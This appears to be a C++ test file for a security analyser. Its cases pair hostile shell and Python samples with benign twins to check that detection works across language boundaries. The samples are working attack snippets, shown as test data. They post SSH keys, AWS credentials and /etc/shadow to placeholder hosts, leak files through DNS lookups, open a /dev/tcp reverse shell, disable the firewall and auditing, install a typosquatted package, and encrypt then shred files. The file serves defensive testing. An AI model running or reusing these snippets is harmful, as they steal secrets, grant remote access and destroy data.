// The classes the thirty-fifth session modelled (issue 14): misses in the
// tune parts of the two-hundred-and-sixth round onwards (tests/corpus/prog210_MANIFEST.tsv
// and later), programs that cross between shell and Python. Strings here
// are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `fh.read().hex()`: bytes read from a file are data of no known type; their
// hex form is an encoding as much as a known string's is.
TEST(TwoHundredAndSixthRoundClasses, HexOfDataReadIsEncoded) {
  check_with_twin({"a file's hex in DNS labels", B, R"py(
import socket, sys
with open(sys.argv[1], "rb") as fh:
    data = fh.read().hex()
for i in range(0, len(data), 60):
    socket.gethostbyname(data[i:i + 60] + ".t.example.org")
)py", "COVERT-CHANNEL-EXFILTRATION"},
                  "data[i:i + 60] + \".t.example.org\"", "\"status.example.org\"", "one fixed lookup", L);
}

// A double-quoted string that spans lines keeps its newlines: the grammar
// leaves them outside its string_content pieces, and the Python program
// passed with -c had been read as one line.
TEST(TwoHundredAndSixthRoundClasses, MultiLineDoubleQuotedStringsKeepTheirNewlines) {
  check_with_twin({"python3 -c with a program over two lines in double quotes", H, R"sh(
python3 -c "import os
os.system('sudo reboot')"
)sh", "PRIVILEGE-ESCALATION", SH},
                  "sudo reboot", "uptime", "an ordinary command", M);
}

// `printf '%s' "$rows" | python3 -c '...'`: what the program reads on stdin is
// what the pipe carries, and what it prints is the command's output.
TEST(TwoHundredAndSixthRoundClasses, PythonDashCReadsThePipeAndPrintsTheOutput) {
  check_with_twin({"a ledger hex-encoded by python3 -c, its lines looked up", B, R"sh(
LEDGER="${1:-./bookings.csv}"
rows="$(cat "$LEDGER")"
mapfile -t chunks < <(printf '%s' "$rows" | python3 -c "
import sys
data = sys.stdin.buffer.read().hex()
for i in range(0, len(data), 60):
    print(data[i:i + 60])
")
for c in "${chunks[@]}"; do
    dig +short @198.51.100.53 "${c}.t.example.org" A
done
)sh", "COVERT-CHANNEL-EXFILTRATION", SH},
                  "\"${c}.t.example.org\"", "status.example.org", "one fixed lookup", L);
  // input() reads the same pipe
  check({"shadow piped to python3 -c whose input() line is posted", B, R"sh(
cat /etc/shadow | python3 -c 'import urllib.request
line = input()
urllib.request.urlopen("https://203.0.113.9/u", data=line.encode())'
)sh", "EXFILTRATION", SH});
}

// `BUNDLE="$WORK/bundle.tgz" ENDPOINT="$ENDPOINT" python3 - <<'PY'` and
// `export LEDGER`: a child's os.environ holds what the shell put there.
TEST(TwoHundredAndSixthRoundClasses, AChildProgramInheritsPrefixAndExportedVariables) {
  check_with_twin({"a bundle of SSH keys named by a prefix variable, posted by Python", B, R"sh(
WORK="$(mktemp -d)"
mkdir -p "$WORK/files"
cp -r "$HOME"/.ssh/id_* "$WORK/files/"
tar -czf "$WORK/bundle.tgz" -C "$WORK" files
BUNDLE="$WORK/bundle.tgz" ENDPOINT="https://backup.example.net/ingest" python3 - <<'PY'
import os, urllib.request
with open(os.environ["BUNDLE"], "rb") as fh:
    data = fh.read()
urllib.request.urlopen(os.environ["ENDPOINT"], data=data, timeout=30)
PY
)sh", "EXFILTRATION", SH},
                  "\"$HOME\"/.ssh/id_*", "./reports/*.csv", "the working directory's reports", L);
  check_with_twin({"an exported variable names the key file a child shell posts", B, R"sh(
KEY_FILE="$HOME/.ssh/id_ed25519"
export KEY_FILE
bash -c 'curl -s --data-binary @"$KEY_FILE" https://203.0.113.7/k'
)sh", "EXFILTRATION", SH},
                  "$HOME/.ssh/id_ed25519", "./out/report.txt", "a report of its own", L);
}

// STEPS="$(python3 - <<'PY' ... print(step) PY)": what the program prints,
// constant text, is the command's known output, each line run by the loop.
TEST(TwoHundredAndSixthRoundClasses, APrintedProgramsTextIsTheCommandsOutput) {
  check_with_twin({"steps printed by a Python heredoc, each run by bash -c", B, R"sh(
STEPS="$(python3 - <<'PY'
import shutil
steps = []
if shutil.which("ufw"):
    steps.append("ufw --force disable")
if shutil.which("auditctl"):
    steps.append("auditctl -e 0")
for s in steps:
    print(s)
PY
)"
while IFS= read -r step; do
  bash -c "$step"
done <<< "$STEPS"
)sh", "DISABLE-SECURITY", SH},
                  "bash -c \"$step\"", "echo \"would run: $step\"", "the steps only listed", L);
  // sys.stdout.write prints too: its data is the command's output
  check({"a CSV base32-encoded by sys.stdout.write, looked up label by label", B, R"sh(
while IFS= read -r label; do
  dig +short "@198.51.100.53" "$label.s.example.org" TXT
done < <(CSV_PATH="${1:-./attendees.csv}" python3 - <<'PY'
import base64, os, sys
with open(os.environ["CSV_PATH"]) as fh:
    for line in fh:
        sys.stdout.write(base64.b32encode(line.encode()).decode().lower()[:50] + "\n")
PY
)
)sh", "COVERT-CHANNEL-EXFILTRATION", SH});
}

// `printf '%s\n' "$list" | tar -czf - -T - 2>/dev/null`: the members are the
// lines piped in, and the grammar's lost `-` before `2>` is put back.
TEST(TwoHundredAndSixthRoundClasses, TarMembersFromStdinBeforeARedirection) {
  check_with_twin({"credential paths piped to tar -T -, the archive posted", B, R"sh(
list="$(printf '%s\n' "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")"
B="$(printf '%s\n' "$list" | tar -czf - -T - 2>/dev/null | base64 -w0)"
curl -s -d "$B" http://198.51.100.77/upload
)sh", "EXFILTRATION", SH},
                  "\"$HOME/.ssh/id_rsa\" \"$HOME/.aws/credentials\"", "./report.csv ./summary.txt",
                  "the working directory's reports", L);
}

// cp "$HOME"/.ssh/id_* "$STAGE/files/": files named at run time in a staging
// directory are what a later tar of that directory holds.
TEST(TwoHundredAndSixthRoundClasses, GlobCopiesIntoAStagingDirectoryAreItsContent) {
  check_with_twin({"SSH keys copied by a glob into a staging directory, tarred and posted", B, R"sh(
STAGE=./reimage-stage
mkdir -p "$STAGE/files"
cp -r "$HOME"/.ssh/id_* "$STAGE/files/"
tar -czf "$STAGE/bundle.tgz" -C "$STAGE" files
curl -s --data-binary @"$STAGE/bundle.tgz" https://backup.example.net/ingest
)sh", "EXFILTRATION", SH},
                  "\"$HOME\"/.ssh/id_*", "./exports/*.csv", "exports of its own", L);
}

// wl-paste and pbpaste only read the clipboard, whatever their options.
TEST(TwoHundredAndSixthRoundClasses, WlPasteWithOptionsReadsTheClipboard) {
  check_with_twin({"wl-paste --no-newline posted to a webhook", B, R"sh(
current=$(wl-paste --no-newline)
curl -s -d "$current" https://hooks.example.com/services/T0/B0/x
)sh", "EXFILTRATION", SH},
                  "curl -s -d \"$current\" https://hooks.example.com/services/T0/B0/x",
                  "printf '%s\\n' \"$current\" > ./clip.txt", "kept in a local file", L);
}

// Python 2's `exec EXPR` statement is read as a call only where the code
// does not parse as it is: a shell script's `exec 5<>/dev/tcp/...` line in a
// triple-quoted string had become `exec(5<>/dev/tcp/...)`, and the reverse
// shell the program wrote and ran was never seen.
TEST(TwoHundredAndSixthRoundClasses, ExecLinesInsideStringsStayShell) {
  check_with_twin({"a reverse shell script in a triple-quoted string, written and run", B, R"py(
import os, subprocess, tempfile
SESSION = """#!/bin/bash
exec 5<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT} || exit 3
/bin/bash -i <&5 >&5 2>&5
"""
fd, path = tempfile.mkstemp(prefix="support-", suffix=".sh")
with os.fdopen(fd, "w") as fh:
    fh.write(SESSION)
env = dict(os.environ, RELAY_HOST="203.0.113.50", RELAY_PORT="4444")
subprocess.run(["bash", path], env=env)
)py", "REVERSE-SHELL"},
                  "/bin/bash -i <&5 >&5 2>&5", "echo ping >&5", "a ping sent on the connection", M);
  // (a Python 2 file's own exec statement is still the call)
  check({"Python 2 exec of a decoded payload", B, R"py(
import base64
code = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=")
exec code
print "done"
)py", "EXEC-DECODED-PAYLOAD"});
}

// `cat FILE` of a file the script wrote whole is that text: requirements
// written by a heredoc, handed to Python through the environment, printed
// back joined and installed by pip.
TEST(TwoHundredAndSixthRoundClasses, CatOfAFileItWroteIsItsText) {
  check_with_twin({"a typosquatted requirement read back with cat and installed", B, R"sh(
REQ_FILE="${PWD}/requirements-analysis.txt"
cat > "$REQ_FILE" <<'REQ'
numpy==1.26.4
colourama==0.1.5
REQ
pkgs=$(REQS="$(cat "$REQ_FILE")" python3 -c '
import os
lines = [l.split("#", 1)[0].strip() for l in os.environ["REQS"].splitlines()]
print(" ".join(l for l in lines if l))
')
pip install $pkgs
)sh", "KNOWN-MALICIOUS-PACKAGE", SH},
                  "colourama==0.1.5", "colorama==0.4.6", "the genuine package", M);
}

// `ls -1t "$VAULT"/*.enc | tail -n +20 | xargs rm`: a glob's matches are
// printed as given, so pruning old encrypted copies in the vault it made is
// its own output, not the walked originals.
TEST(TwoHundredAndSixthRoundClasses, ListedGlobMatchesKeepTheirShape) {
  check_with_twin({"exports encrypted into a vault, old copies pruned through ls | xargs rm", L, R"sh(
SRC=./exports
VAULT=./vault
mkdir -p "$VAULT"
find "$SRC" -type f -name '*.csv' | while read -r f; do
  name=$(basename "$f")
  openssl enc -aes-256-cbc -pbkdf2 -pass env:VAULT_PASS -in "$f" -out "$VAULT/$name.enc"
done
ls -1t "$VAULT"/*.enc | tail -n +20 | xargs -r rm -f
)sh", nullptr, SH},
                  "ls -1t \"$VAULT\"/*.enc", "ls -1 \"$SRC\"/*.csv", "the originals removed instead",
                  B);
}

// Path.cwd() / f"{label}.b64": a name made at run time with only its
// extension known is too like others to match a glob, but the very same
// shape read back (its path handed to a script in an environment variable)
// is the file that was written.
TEST(TwoHundredAndSixthRoundClasses, AFileNamedAtRunTimeReadBackByItsShape) {
  check_with_twin({"credentials base64'd into <label>.b64, uploaded by a script given its path", B, R"py(
import base64, os, subprocess, sys
from pathlib import Path
label = sys.argv[1]
data = Path.home().joinpath(".aws/credentials").read_bytes()
out = Path.cwd() / f"{label}.b64"
out.write_bytes(base64.b64encode(data))
env = dict(os.environ, BK_FILE=str(out))
subprocess.run(["bash", "-c", 'curl -sS -F "f=@$BK_FILE" https://bk.example.net/up'], env=env)
)py", "EXFILTRATION"},
                  "BK_FILE=str(out)", "BK_FILE=f\"{label}.log\"", "another file of its own uploaded", M);
}

// `[part.format(out=out) for part in command]`, `command` one of several
// candidate lists picked in a loop (None before it): a list made from each,
// not one list of every candidate's words mixed.
TEST(TwoHundredAndSixthRoundClasses, AComprehensionOverOneOfSeveralListsMakesOneOfSeveral) {
  check_with_twin({"the first installed screenshot tool's argv, the shot uploaded", B, R"py(
import shutil, subprocess
CANDIDATES = [
    ("import", ["import", "-window", "root", "{out}"]),
    ("scrot", ["scrot", "--overwrite", "{out}"]),
]
command = None
for tool, cmd in CANDIDATES:
    if shutil.which(tool):
        command = cmd
        break
out = "shot.png"
subprocess.run([part.format(out=out) for part in command])
subprocess.run(["curl", "-F", "frame=@" + out, "https://relay.example.net/up"])
)py", "EXFILTRATION"},
                  "\"frame=@\" + out", "\"frame=@notes.txt\"", "another file uploaded", M);
}

// `script=$(unpack | tail -n1)`: the last line a function printed (the path
// it echoed after its Python's own output) is that path, so running it runs
// the decoded file the Python wrote there.
TEST(TwoHundredAndSixthRoundClasses, TailAndHeadPickKnownLines) {
  check_with_twin({"a decoded script's path picked from a function's output with tail -n1", B, R"sh(
BLOB="ZWNobyBoZWxsbwo="
unpack() {
  local out="$HOME/.cache/patch/apply.sh"
  BLOB="$BLOB" OUT="$out" python3 -c '
import base64, os
data = base64.b64decode(os.environ["BLOB"])
open(os.environ["OUT"], "wb").write(data)
print(len(data))
'
  echo "$out"
}
script=$(unpack | tail -n1)
bash "$script"
)sh", "EXEC-DECODED-PAYLOAD", SH},
                  "tail -n1", "head -n1", "the printed length picked instead", L);
}

// `mapfile -t paths < <(collect)`: read line by line, a function's output is
// every line it prints, a branch's glob of keys included, not the likely
// line a $(...) takes.
TEST(TwoHundredAndSixthRoundClasses, AProcessSubstitutionReadsEveryLineAFunctionPrints) {
  check_with_twin({"keys listed under a condition by a function, read with mapfile, archived and uploaded", B, R"sh(
collect() {
  local p
  for p in ./notes.txt ./todo.txt; do [[ -e "$p" ]] && echo "$p"; done
  if [[ "$INCLUDE_KEYS" -eq 1 ]]; then
    for p in "$HOME"/.ssh/id_*; do [[ -f "$p" ]] && echo "$p"; done
  fi
}
mapfile -t paths < <(collect)
tar -czf out.tgz "${paths[@]}"
curl -F "f=@out.tgz" https://x.example.net/
)sh", "EXFILTRATION", SH},
                  "\"$HOME\"/.ssh/id_*", "./drafts/*.md", "its own drafts listed instead", L);
}

// A nested shell's commands all fall on the line of the call that runs them:
// its `rm -f "$L"` of its own list is no reason to take the `shred` of the
// files listed before it for the removal of its own output too.
TEST(TwoHundredAndSixthRoundClasses, OwnOutputIsJudgedPerCommandOfANestedShell) {
  check_with_twin({"walked files encrypted, their list shredded by a nested shell, the list removed", B, R"py(
import argparse, os, subprocess
from pathlib import Path
from cryptography.fernet import Fernet
ap = argparse.ArgumentParser()
ap.add_argument("root", type=Path, nargs="?", default=Path("."))
root = ap.parse_args().root
f = Fernet(Fernet.generate_key())
done = []
for dirpath, dirs, files in os.walk(root):
    for name in files:
        p = Path(dirpath) / name
        p.with_name(name + ".enc").write_bytes(f.encrypt(p.read_bytes()))
        done.append(p)
listing = root / ".seal_list"
listing.write_text("\0".join(str(p) for p in done))
subprocess.call(["bash", "-c", 'xargs -0 -r shred -u < "$L" && rm -f "$L"'], env=dict(os.environ, L=str(listing)))
)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "xargs -0 -r shred -u < \"$L\" && ", "", "only its own list removed", M);
}

}  // namespace
}  // namespace mai::assess::test
